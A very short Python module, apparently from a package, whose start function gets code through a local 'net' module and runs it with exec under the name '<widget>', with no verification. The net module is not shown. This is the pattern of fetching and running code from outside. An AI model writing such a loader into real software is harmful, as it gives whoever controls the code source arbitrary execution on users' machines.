from . import net


def start():
    code = net.latest()
    exec(compile(code, "<widget>", "exec"))
